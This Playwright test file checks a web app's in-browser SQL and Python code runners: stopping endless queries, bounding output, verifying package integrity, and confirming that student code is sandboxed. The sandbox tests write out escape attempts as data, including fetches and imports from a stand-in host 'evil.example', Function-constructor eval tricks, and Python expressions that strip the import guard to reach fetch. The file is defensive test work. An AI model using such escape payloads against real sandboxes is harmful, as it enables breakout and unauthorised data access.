import { createHash } from 'node:crypto';
import type { Worker } from '@playwright/test';
import { tinyFiles } from '../../tiny-package.ts';
import { expect, long, test } from '../test.ts';
import {
  cancelLoading,
  failureOf,
  isKept,
  loadRunner,
  openRunner,
  type Run,
  runCode,
  runnerScript,
  workerFile,
} from './runner.ts';

/** Whether the page goes on drawing: a frozen page draws nothing until the run is over. */
const isDrawing = ({ gaps, milliseconds }: Run) => gaps.length > 10 && (gaps[0] ?? 0) < milliseconds / 2;

const endless = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n';
const tenMillion = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10000000) SELECT i FROM n';

test('§practice.81 SQL: an endless query is stopped by the person or after five seconds, and the next one answers at once', {
  tag: long,
}, async ({ page }) => {
  const { run } = await openRunner(page, 'sql');
  const byPerson = await runCode(page, { code: endless }, 300);
  expect(byPerson.result).toEqual({ kind: 'stopped', why: 'person', text: '' });
  const next = await run('SELECT name FROM bikes');
  expect(next.result).toMatchObject({ kind: 'table', rows: [['Heron'], ['Wren']] });

  const byTime = await run(endless);
  expect(byTime.result).toEqual({ kind: 'stopped', why: 'time', text: '' });
  expect(byTime.milliseconds).toBeGreaterThan(4_900);
  expect(isDrawing(byTime)).toBe(true);
  const after = await run('SELECT name FROM bikes');
  expect(after.result).toMatchObject({ kind: 'table', rowCount: 2 });
});

test('§practice.82 SQL: ten million rows neither freeze nor fill the page', { tag: long }, async ({ page }) => {
  const { run } = await openRunner(page, 'sql');
  const many = await run(tenMillion);
  if (many.result.kind === 'table') {
    expect(many.result.rowCount).toBe(10_000_000);
    expect(many.result.rows.length).toBe(1_000);
  } else expect(many.result).toMatchObject({ kind: 'stopped', why: 'time' });
  expect(isDrawing(many)).toBe(true);
  expect((await run('SELECT 1')).result).toMatchObject({ rows: [[1]] });
});

/** What JavaScript in a worker can do, in case a student's code gets at it. */
const reach = (worker: Worker, address: string) =>
  worker.evaluate(async (address) => {
    const evil = 'https://evil.example/x.js';
    const attempt = async (act: () => unknown) => {
      try {
        await act();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    const opened = (url: string) =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(url);
        socket.addEventListener('open', resolve);
        socket.addEventListener('error', reject);
      });
    const requested = (url: string) => {
      const request = new XMLHttpRequest();
      request.open('GET', url, false);
      request.send();
    };
    return {
      fetch: await attempt(() => fetch(`${address}/v1/marketing/courses`)),
      another: await attempt(() => fetch(evil)),
      request: await attempt(() => requested(`${address}/v1/marketing/courses`)),
      socket: await attempt(() => opened(address.replace('http', 'ws'))),
      script: await attempt(() => Reflect.get(globalThis, 'importScripts')(`${address}/theme.js`)),
      module: await attempt(() => import(evil)),
      worker: await attempt(() => new Worker(`${address}/theme.js`)),
      text: await attempt(() => new Function('return 1')()),
      constructor: await attempt(() => Reflect.get((async () => {}).constructor, 'constructor')('return 1')()),
      storage: await attempt(() => indexedDB.open('keyval-store').addEventListener('success', () => {})),
      files: await attempt(() => caches.keys()),
      channel: await attempt(() => new BroadcastChannel('session')),
      space: await attempt(() => navigator.storage.estimate()),
      lock: await attempt(() => navigator.locks.request('session', () => {})),
    };
  }, address);

test('§practice.80 A worker’s policy forbids the network, scripts and eval to all code in it', async ({
  page,
  product,
  complaints,
}) => {
  await page.goto('/login');
  const opened = page.waitForEvent('worker');
  // Starts the worker as a stranger's script could, so that no code of ours has taken anything away in it.
  await page.evaluate((url) => {
    const rules = { createScriptURL: (text: string) => text };
    const policy = Reflect.get(window, 'trustedTypes').createPolicy('runtimes', rules);
    Reflect.set(window, 'worker', new Worker(policy.createScriptURL(url), { type: 'module' }));
  }, workerFile('sql'));
  const { storage, files, channel, space, lock, ...network } = await reach(await opened, product.url);
  expect(new Set(Object.values({ storage, files, channel, space, lock }))).toEqual(new Set(['done']));
  expect(new Set(Object.values(network))).toEqual(new Set(['refused']));
  complaints.length = 0;
});

test('§practice.80 A worker has no network, storage or channel left once it can run code', async ({
  page,
  product,
  complaints,
}) => {
  const opened = page.waitForEvent('worker');
  await openRunner(page, 'sql');
  expect(new Set(Object.values(await reach(await opened, product.url)))).toEqual(new Set(['refused']));
  expect(complaints).toEqual([]);
});

test('§practice.80 The page starts no other worker than these, and compiles no WebAssembly', async ({
  page,
  complaints,
}) => {
  await openRunner(page, 'sql');
  const tries = await page.evaluate(async (url) => {
    const attempt = async (act: () => unknown) => {
      try {
        await act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const empty = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
    return [await attempt(() => new Worker(url, { type: 'module' })), await attempt(() => WebAssembly.compile(empty))];
  }, workerFile('sql'));
  expect(tries).toEqual(['TypeError', 'CompileError']);
  complaints.length = 0;
});

test('§practice.81 Python: code that does not end is stopped, and the next run answers', {
  tag: long,
}, async ({ page }) => {
  const { run } = await openRunner(page, 'python');
  const loop = await runCode(page, { code: "print('before')\nwhile True:\n  pass" }, 300);
  expect(loop.result).toEqual({ kind: 'stopped', why: 'person', text: 'before\n' });
  for (const code of ["while True:\n  print('on and on')", 'import time\ntime.sleep(600)', 'while True:\n  pass']) {
    const stopped = await run(code);
    expect(stopped.result).toMatchObject({ kind: 'stopped', why: 'time' });
    expect('text' in stopped.result && stopped.result.text.length).toBeLessThanOrEqual(100_000);
    expect(isDrawing(stopped)).toBe(true);
    const next = await run("print(open('bikes.csv').read())");
    expect(next.result).toMatchObject({ kind: 'output', text: 'name,day_rate\nHeron,12.5\nWren,9\n\n' });
  }
});

test('§practice.80 Python: a student’s code finds no way to the page or the network', { tag: long }, async ({
  page,
  product,
  complaints,
}) => {
  const { run } = await openRunner(page, 'python');
  const text = async (code: string) => {
    const { result } = await run(code);
    return result.kind === 'error'
      ? result.message.split('\n')[0]
      : 'text' in result
        ? result.text.trim()
        : result.kind;
  };
  for (const name of ['js', 'pyodide_js', 'pyodide', 'pyodide.code', 'pyodide.http', '_pyodide_core', 'micropip']) {
    expect(await text(`import ${name}`)).toBe(`ModuleNotFoundError: No module named '${name.split('.')[0]}'`);
  }
  expect(await text(`from urllib.request import urlopen\nurlopen('${product.url}/v1/marketing/courses')`)).toMatch(
    /Error/,
  );
  expect(await text("import socket\nsocket.create_connection(('localhost', 80), 1)")).toMatch(/Error/);
  // Taking the guard away gives the modules back, and these reach nothing.
  const unguarded = `import sys\nsys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != 'NotThere']\n`;
  expect(
    await text(`${unguarded}import js\nprint([name for name in dir(js) if not name.startswith('_')])`),
  ).not.toMatch(/fetch|XMLHttpRequest|indexedDB|caches|postMessage/);
  for (const expression of [
    "js.constructor.constructor('return 1')()",
    "js.constructor.constructor('return self')().fetch('/v1/me')",
    "__import__('pyodide').code.run_js('1')",
    "__import__('pyodide').http.pyfetch('/v1/me')",
  ]) {
    expect(await text(`${unguarded}import js\n${expression}`), expression).toMatch(/Error/);
  }
  // Code that ends the runtime itself ends only its own run: the next one gets a new runtime.
  expect((await run('import os\nos._exit(1)')).result).toMatchObject({ kind: 'error', help: 'broken' });
  expect(await text('print(1)')).toBe('1');
  complaints.length = 0;
});

test('§practice.86 Python: what was loaded is kept, also without a network; cancelling keeps nothing', {
  tag: long,
}, async ({ page, context }) => {
  await page.goto('/login');
  expect(await cancelLoading(page, 'python')).toEqual({ name: 'AbortError', hasProgress: true });
  expect(await isKept(page, 'python')).toBe(false);
  expect(await page.evaluate(() => caches.keys())).toEqual([]);
  await page.evaluate(() => caches.open('runtimes-python-313.0.0'));

  await loadRunner(page, 'python');
  await expect.poll(() => isKept(page, 'python')).toBe(true);
  expect(await page.evaluate(() => caches.keys())).toEqual([expect.stringMatching(/^runtimes-python-314/)]);

  await page.reload();
  await page.evaluate((script) => import(script), runnerScript);
  await context.setOffline(true);
  const { run } = await loadRunner(page, 'python');
  expect((await run('print(1)')).result).toMatchObject({ kind: 'output', text: '1\n' });
});

test('A language that cannot be loaded says whether the browser is offline or the loading failed', {
  tag: long,
}, async ({ page, context }) => {
  await page.goto('/login');
  await page.evaluate((script) => import(script), runnerScript);
  await context.setOffline(true);
  expect(await failureOf(page, 'sql')).toBe('offline');
  await context.setOffline(false);
  await page.route('**/*.wasm', (route) => route.fulfill({ status: 503, body: 'busy' }));
  expect(await failureOf(page, 'sql')).toBe('failed');
  await page.route('**/*.wasm', (route) => route.fulfill({ status: 200, body: '<html>' }));
  expect(await failureOf(page, 'sql')).toBe('failed');
});

test('§practice.148 Python: packages are loaded with it, imported in each run, and refused where they are not the announced files', async ({
  page,
  complaints,
}) => {
  const given = tinyFiles();
  const names = ['pyodide-lock.json', 'weights-1.0-py3-none-any.whl', 'scales-1.0-py3-none-any.whl'];
  const files = names.map((name) => {
    const bytes = Buffer.from(given[name] ?? '');
    const integrity = `sha256-${createHash('sha256').update(bytes).digest('base64')}`;
    return { url: `/python-packages/1/${name}`, bytes: bytes.length, integrity };
  });
  await page.route('/python-packages/**', (route) =>
    route.fulfill({ body: Buffer.from(given[route.request().url().split('/').at(-1) ?? ''] ?? '') }),
  );
  const { run } = await openRunner(page, 'python', { names: ['weights'], files });
  for (const number of [3, 4]) {
    const { result } = await run(`import weights\nprint(weights.heavy(${number}))`);
    expect(result).toMatchObject({ kind: 'output', text: `${number} kg\n` });
  }
  expect((await run('import spare')).result).toMatchObject({ kind: 'error', help: 'noModule' });

  const wheel = Buffer.from(given['scales-1.0-py3-none-any.whl'] ?? '');
  await page.route('/python-packages/**/scales*', (route) => route.fulfill({ body: Buffer.alloc(wheel.length) }));
  await expect(openRunner(page, 'python', { names: ['weights'], files })).rejects.toThrow();
  // The browser says so, too.
  expect(complaints.splice(0).join()).toMatch('integrity');
});
